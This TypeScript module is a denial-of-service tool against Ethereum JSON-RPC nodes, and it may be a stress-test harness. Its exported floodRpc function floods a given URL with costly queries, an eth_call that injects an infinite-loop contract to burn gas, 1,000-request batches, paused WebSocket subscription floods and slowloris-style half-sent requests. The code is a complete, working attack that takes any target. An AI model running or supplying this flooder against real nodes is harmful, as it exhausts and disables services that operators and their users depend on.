import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'

/** Clients that ask one kind of question each, again as soon as it is answered. */
const CLIENTS_PER_QUESTION = 10
/** `for (;;) {}` until the gas is gone: JUMPDEST, PUSH1 0, JUMP. */
const BURNER = { to: `0x${'b0'.repeat(20)}`, gas: '0x1c9c380' }
const BURNER_CODE = { [BURNER.to]: { code: '0x5b600056' } }

const QUESTIONS: readonly (readonly [string, ...unknown[]])[] = [
  ['eth_getLogs', { fromBlock: '0x0', toBlock: 'latest' }],
  ['eth_feeHistory', '0x400', 'latest', [1, 5, 25, 50, 75, 95, 99]],
  ['eth_call', BURNER, 'latest', BURNER_CODE],
  ['eth_getBlockByNumber', 'latest', true],
]

const messageOf = ([method, ...params]: readonly [string, ...unknown[]], id = 1) => ({
  jsonrpc: '2.0',
  id,
  method,
  params,
})

/** Clients flood the RPC port until `untilMs`; returns how many requests and connections they made. */
export async function floodRpc(url: string, untilMs: number): Promise<number> {
  const agent = new Agent({ keepAlive: true })
  let count = 0
  const until = async (attack: () => Promise<unknown>) => {
    while (performance.now() < untilMs) {
      count += 1
      await attack()
    }
  }
  const batch = JSON.stringify(
    Array.from({ length: 1_000 }, (_, id) => messageOf(['eth_getBalance', BURNER.to, 'latest'], id)),
  )
  const questions = [...QUESTIONS.map((question) => JSON.stringify(messageOf(question))), batch]
  const attacks = questions.flatMap((body) =>
    Array.from({ length: CLIENTS_PER_QUESTION }, () => until(() => ask(url, agent, body))),
  )
  const readers = Array.from({ length: 90 }, () => subscribe(url))
  await Promise.all([...attacks, until(() => knock(url))])
  for (const reader of readers) reader.terminate()
  agent.destroy()
  return count
}

/** Sends a request and reads the answer to its end; resolves whatever becomes of it. */
function ask(url: string, agent: Agent, body: string): Promise<void> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json' }
    const outgoing = request(url, { method: 'POST', agent, headers, timeout: 10_000 }, (incoming) => {
      incoming.resume()
      incoming.on('close', resolve)
    })
    outgoing.on('timeout', () => outgoing.destroy())
    outgoing.on('error', () => resolve())
    outgoing.end(body)
  })
}

/** A WebSocket with a thousand subscriptions whose reader has gone to sleep. */
function subscribe(url: string): WebSocket {
  const socket = new WebSocket(url.replace('http', 'ws'))
  socket.on('error', () => {})
  socket.on('open', () => {
    for (let id = 0; id < 1_000; id += 1) socket.send(JSON.stringify(messageOf(['eth_subscribe', 'newHeads'], id)))
    socket.pause()
  })
  return socket
}

/** A connection that says half a request and waits. */
async function knock(url: string): Promise<void> {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  socket.write('POST / HTTP/1.1\r\nHost: localhost\r\n')
  setTimeout(() => socket.destroy(), 5_000).unref()
  await pause(5)
}
